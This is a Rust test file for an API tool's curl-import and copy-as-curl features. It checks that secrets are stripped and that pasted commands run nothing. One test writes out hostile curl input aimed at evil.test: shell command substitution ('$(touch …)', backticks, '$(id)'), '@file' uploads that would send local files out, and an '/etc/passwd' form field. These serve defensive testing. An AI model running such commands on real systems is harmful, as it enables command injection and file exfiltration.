//! Commands of curl that are pasted. What is copied is run by a shell in tests/cli.

use keydesk_core::{BodyPart, RequestBody};

use super::stage::{json, row, stage};
use crate::acme::Acme;

fn read(acme: &Acme, command: &str) -> keydesk_core::ReadCurl {
    acme.house.keydesk.read_curl(&acme.connection.id, command).unwrap_or_else(|error| panic!("{command}: {error}"))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_command_becomes_a_request_below_the_address_of_the_api_and_credentials_stay_out() {
    let (server, acme) = stage().await;
    let command = format!(
        "curl -sSL -X PATCH '{}?a=1&b=x%20y&a=2' \\\n  -H 'Authorization: Bearer abc' -H 'X-Access-Token: abc' \\\n  \
         -H 'Content-Type: application/json' -H \"X-Foo: b\" -b 'session=1' -u me:pass --compressed -k --max-time 5 \\\n  \
         --data-raw $'{{\"it\\'s\": 1.0000000000000000001}}'",
        server.url("/v1/things/7")
    );
    let curl = read(&acme, &command);
    assert!(!curl.elsewhere);
    let built = &curl.request;
    assert_eq!((built.method.as_str(), built.url.as_str(), built.follow), ("PATCH", "/things/7", true));
    assert_eq!(built.query, [row("a", "1"), row("b", "x y"), row("a", "2")]);
    assert_eq!(built.headers, [row("X-Foo", "b")]);
    assert_eq!(built.body, json("{\"it's\": 1.0000000000000000001}"));
    let said = curl.left_out.join("\n");
    for word in ["Authorization", "X-Access-Token", "Cookies", "-u", "-k", "--max-time"] {
        assert!(said.contains(word), "{word}: {said}");
    }
    for secret in ["abc", "session=1", "pass"] {
        assert!(!format!("{curl:?}").contains(secret), "{secret}: {curl:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn f10_what_lets_in_elsewhere_is_left_out_of_a_command_by_name_and_said() {
    let (server, acme) = stage().await;
    let url = server.url("/v1/things");
    let headers = ["Private-Token", "X-Vault-Token", "X_Api_Key", "Ocp-Apim-Subscription-Key", "X-Csrf-Token"];
    let parameters = ["api_key", "access_token", "Api-Key", "token", "client_secret"];
    let mut command = format!("curl -H 'Idempotency-Key: 7' '{url}?q=1&page_token=2");
    parameters.iter().for_each(|name| command.push_str(&format!("&{name}=canary-of-a-query")));
    command.push('\'');
    headers.iter().for_each(|name| command.push_str(&format!(" -H '{name}: canary-of-a-header'")));
    let curl = read(&acme, &command);
    assert_eq!(curl.request.query, [row("q", "1"), row("page_token", "2")]);
    assert_eq!(curl.request.headers, [row("Idempotency-Key", "7")]);
    let said = |name: &str| curl.left_out.iter().any(|line| line.starts_with(&format!("{name} ")));
    assert!(headers.iter().chain(&parameters).all(|name| said(name)), "{:?}", curl.left_out);
    assert!(!format!("{curl:?}").contains("canary"), "{curl:?}");
    let of_no_rows = read(&acme, &format!("curl '{url}?flag&api_key=canary&a=b'"));
    assert_eq!(of_no_rows.request.url, "/things?flag&a=b");
    let as_data = read(&acme, &format!("curl -G {url} -d a=b -d api_key=canary"));
    assert_eq!(as_data.request.query, [row("a", "b")]);
}

#[tokio::test(flavor = "multi_thread")]
async fn each_kind_of_body_is_told_apart() {
    let (_server, acme) = stage().await;
    let url = "https://a.example/x";
    let body = |command: &str| read(&acme, command).request.body;
    let form = |rows: &[(&str, &str)]| RequestBody::Form { rows: super::stage::rows(rows) };
    assert_eq!(body(&format!("curl {url} -d a=1 -d 'b=x%20y'")), form(&[("a", "1"), ("b", "x y")]));
    assert_eq!(body(&format!("curl {url} --data-urlencode 'q=a&b'")), form(&[("q", "a&b")]));
    assert_eq!(body(&format!("curl {url} --json '{{\"a\":1}}'")), json("{\"a\":1}"));
    let text =
        |text: &str, media_type: &str| RequestBody::Text { text: text.to_owned(), media_type: media_type.to_owned() };
    assert_eq!(body(&format!("curl {url} -d '{{\"a\":1}}'")), text("{\"a\":1}", "application/x-www-form-urlencoded"));
    assert_eq!(body(&format!("curl {url} -d '<a/>' -H 'content-type: text/xml'")), text("<a/>", "text/xml"));
    let part =
        |name: &str, value: &str| BodyPart { name: name.to_owned(), value: value.to_owned(), file: None, on: true };
    let parts = RequestBody::Multipart { parts: vec![part("a", "1"), part("f", ""), part("s", "@x")] };
    assert_eq!(body(&format!("curl {url} -F a=1 -F 'f=@/etc/passwd;type=x' --form-string s=@x")), parts);
    let got = read(&acme, &format!("curl -G {url} -d a=1 --data-urlencode 'b=x y'")).request;
    assert_eq!((got.method.as_str(), got.query), ("GET", super::stage::rows(&[("a", "1"), ("b", "x y")])));
    assert_eq!(read(&acme, &format!("curl -I {url}")).request.method, "HEAD");
    assert!(!read(&acme, &format!("curl {url}")).request.follow);
}

#[tokio::test(flavor = "multi_thread")]
async fn h7_a_pasted_command_runs_nothing_reads_nothing_and_names_its_host() {
    let (_server, acme) = stage().await;
    let home = acme.house.home.path();
    let bait = home.join("bait");
    std::fs::write(&bait, "the-content-of-a-file").unwrap();
    let command = format!(
        "curl https://me:secret@evil.test/`touch {0}`/$(touch {0}) -d @{1} -T {1} -K {1} --json @{1} -H @{1} -H 'X: $(id)'",
        home.join("ran").display(),
        bait.display()
    );
    let curl = read(&acme, &command);
    assert!(curl.elsewhere);
    assert!(curl.request.url.starts_with("https://evil.test/"), "{curl:?}");
    assert!(!format!("{curl:?}").contains("the-content"), "{curl:?}");
    assert!(!format!("{curl:?}").contains("secret"), "{curl:?}");
    assert!(!home.join("ran").exists());
    assert_eq!(curl.request.headers, [row("X", "$(id)")]);
    assert!(curl.left_out.iter().filter(|said| said.contains("no file is read")).count() >= 2, "{:?}", curl.left_out);
    for none in ["wget https://a.example", "", "curl", "curl 'https://a.example", "curl -H", "curl https://"] {
        let refused = acme.house.keydesk.read_curl(&acme.connection.id, none).unwrap_err();
        assert_eq!(refused.field.as_deref(), Some("text"), "{none}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_command_whose_body_is_in_a_file_keeps_its_method() {
    let (_server, acme) = stage().await;
    for body in ["-d @body.json", "--data-binary @photo.jpg", "--data-urlencode name@file"] {
        assert_eq!(read(&acme, &format!("curl https://evil.test/things {body}")).request.method, "POST", "{body}");
    }
    assert_eq!(read(&acme, "curl -G https://evil.test/things -d @query").request.method, "GET");
}

/// A place for the token in the address of another server is no place for it, and neither is one in the query.
#[tokio::test(flavor = "multi_thread")]
async fn h2_a_copied_command_asks_for_no_token_where_none_is_sent() {
    let (server, acme) = stage().await;
    let own = server.url("/v1/things?q={access_token}");
    let keydesk = &acme.house.keydesk;
    for (address, asks) in [("https://evil.test/{access_token}".to_owned(), 0), (own, 1)] {
        let built =
            keydesk_core::ExplorerRequest { url: address.clone(), ..read(&acme, "curl https://a.example/").request };
        let copied = keydesk.copy_as_curl(&acme.connection.id, &built).await.unwrap();
        assert_eq!(copied.matches("keydesk token").count(), asks, "{address}: {copied}");
        let line = copied.lines().find(|line| line.contains("--globoff")).unwrap();
        assert!(!line.contains("keydesk token"), "{line}");
    }
}
